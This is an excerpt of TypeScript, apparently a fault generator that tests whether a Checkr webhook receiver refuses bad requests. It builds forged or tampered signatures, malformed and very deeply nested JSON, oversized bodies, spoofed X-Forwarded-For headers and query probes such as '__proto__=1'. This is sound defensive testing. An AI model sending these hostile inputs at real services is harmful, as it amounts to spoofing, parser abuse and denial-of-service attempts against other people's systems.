  { kind: 'webhook:signature-forged', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [hex(rng, 64)] }) },
  { kind: 'webhook:signature-forged-uppercase', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [hex(rng, 64).toUpperCase()] }) },
  { kind: 'webhook:signature-truncated', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [d.signature.slice(0, rng.between(0, 63))] }) },
  { kind: 'webhook:signature-extended', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [`${d.signature}${hex(rng, rng.between(1, 64))}`] }) },
  { kind: 'webhook:signature-prefixed', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [`${rng.pick(['sha256=', 'v1=', 'hmac '])}${d.signature}`] }) },
  { kind: 'webhook:signature-placeholder', expect: 'refused', build: (_rng, d) => ({ body: d.body, signatures: [CHECKR_PLACEHOLDER_SIGNATURE] }) },
  { kind: 'webhook:signature-repeated', expect: 'refused', build: (rng, d) => ({ body: d.body, signatures: [d.signature, rng.chance(0.5) ? d.signature : hex(rng, 64)] }) },
  {
    kind: 'webhook:signature-of-other-body',
    expect: 'refused',
    build: (rng, d, world) => {
      const other = world.webhooks.find((w) => w.signature !== d.signature)
      return { body: d.body, signatures: [other ? other.signature : signCheckrPayload(`${d.body.toString('utf8')} `, world.signingKey)] }
    },
  },
  { kind: 'webhook:signature-wrong-key', expect: 'refused', build: (_rng, d) => ({ body: d.body, signatures: [signCheckrPayload(d.body, 'not-the-key')] }) },
  {
    kind: 'webhook:tampered-body',
    expect: 'refused',
    build: (rng, d) => {
      const body = Buffer.from(d.body)
      const at = rng.int(body.byteLength)
      body[at] = (body[at] ?? 0) ^ (1 << rng.int(7))
      return { body: rng.chance(0.2) ? Buffer.concat([d.body, Buffer.from(' ')]) : body, signatures: [d.signature] }
    },
  },
  {
    kind: 'webhook:signed-malformed',
    expect: 'refused',
    build: (rng, d, world) => {
      const variants: (() => Buffer | string)[] = [
        () => reshape(d, (e) => ({ ...e, id: `${String(e.id)}\u0000` })),
        () => reshape(d, (e) => ({ ...e, id: `${String(e.id)}${rng.pick(UNPAIRED_SURROGATES)}` })),
        () => reshape(d, (e) => ({ ...e, id: `evt_${'x'.repeat(rng.pick([188, 189, 500, 5000]))}` })),
        () => reshape(d, (e) => ({ ...e, type: 'x'.repeat(rng.pick([101, 102, 2000])) })),
        () => reshape(d, (e) => ({ ...e, type: `report.completed\u0000` })),
        () => reshape(d, (e) => ({ ...e, id: rng.pick<unknown>([123, null, true, [], {}, '']) })),
        () => reshape(d, (e) => ({ ...e, object: rng.pick(['Event', 'report', '', 'event\u0000']) })),
        () => reshape(d, (e) => ({ ...e, created_at: rng.pick(['yesterday', '', '2024-13-45T99:99:99Z', 0]) })),
        () => reshape(d, (e) => ({ ...e, data: rng.pick<unknown>(['x', null, [], { object: null }, { object: 'x' }]) })),
        () => reshape(d, (e) => ({ ...e, type: rng.pick<unknown>(['', 42, null]) })),
        () => {
          const json = reshape(d, (e) => ({ ...e, data: { object: '__deep__' } }))
          return json.replace('"__deep__"', deepJson(rng.pick([10_000, 50_000]), rng.pick(['array', 'object'] as const)))
        },
        () => deepJson(rng.pick([10_000, 100_000]), rng.pick(['array', 'object'] as const)),
        () => {
          // Not UTF-8 inside `"object":"event"`: Checkr's parser decodes leniently, so it must not read "event".
          const text = d.body.toString('utf8')
          const at = text.indexOf('"object":"event"') + '"object":"ev'.length
          return Buffer.concat([Buffer.from(text.slice(0, at)), rng.pick(INVALID_UTF8), Buffer.from(text.slice(at))])
        },
        () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), d.body]),
        () => d.body.toString('utf16le'),
        () => rng.pick(['', '{', 'null', '[]', '"event"', '{"id":', '0', 'true']),
        () => d.body.subarray(0, rng.between(1, d.body.byteLength - 1)),
      ]
      return resign(rng.pick(variants)(), world)
    },
  },
  {
    kind: 'webhook:too-large',
    expect: 'refused',
    build: (rng, d, world) => {
      const padded = Buffer.concat([d.body.subarray(0, -1), Buffer.from(`,"pad":"${'p'.repeat(1024 * 1024 + rng.int(4096))}"}`)])
      return rng.chance(0.5) ? resign(padded, world) : { body: padded, signatures: [d.signature] }
    },
  },
]

/** Every kind of fault the generator knows (a few webhook extras, such as chunked bodies, aside). */
export const FAULT_KINDS: readonly string[] = [...MUTATIONS.map((m) => m.kind), ...WEBHOOK_FAULTS.map((f) => f.kind)]

function planWebhook(rng: Rng, index: number, op: Operation, world: World, forced?: WebhookFault): Planned {
  const draft = baseDraft(rng, op, world)
  const delivered = rng.pick(world.webhooks)
  // Oversized bodies are few (a megabyte each); replays about a fifth.
  const pool = WEBHOOK_FAULTS.filter((f) => f.kind !== 'webhook:too-large' || rng.chance(0.05))
  const fault = forced ?? rng.pick(pool)
  const { body, signatures } = fault.build(rng, delivered, world)
  draft.bytes = body
  setHeader(draft, 'Content-Type', 'application/json')
  for (const signature of signatures) draft.headers.push(['X-Checkr-Signature', signature])
  const mutations = [fault.kind]
  let expect = fault.expect
  // Source addresses: most from a few dozen, some hostile (a refusal is counted per source).
  if (rng.chance(0.15)) {
    setHeader(draft, 'X-Forwarded-For', rng.pick(HOSTILE_XFF))
    mutations.push('xff:hostile')
  }
  if (rng.chance(0.1)) {
    setHeader(draft, 'Content-Type', rng.pick([null, 'text/plain', 'application/x-www-form-urlencoded', 'application/xml']))
    mutations.push('webhook:content-type')
  }
  if (rng.chance(0.05)) {
    draft.query.push(rng.pick(['x=1', 'x=1&x=2', '__proto__=1', '%00=%00']))
    mutations.push('webhook:query')
  }
  if (rng.chance(0.05)) {
    draft.chunked = true
    mutations.push('webhook:chunked')
  }
  // Now and then also the wrong method or path: then nothing may be recorded as a delivery.
  const shape = rng.chance(0.1) ? rng.pick(MUTATIONS.filter((m) => m.category === 'method' || m.category === 'path').filter((m) => m.refuses)) : null
  if (shape) {
    shape.apply(rng, op, draft, world)
    mutations.push(shape.kind)
    expect = 'refused'
  }
  return finish(draft, index, op, world, mutations, expect)
}
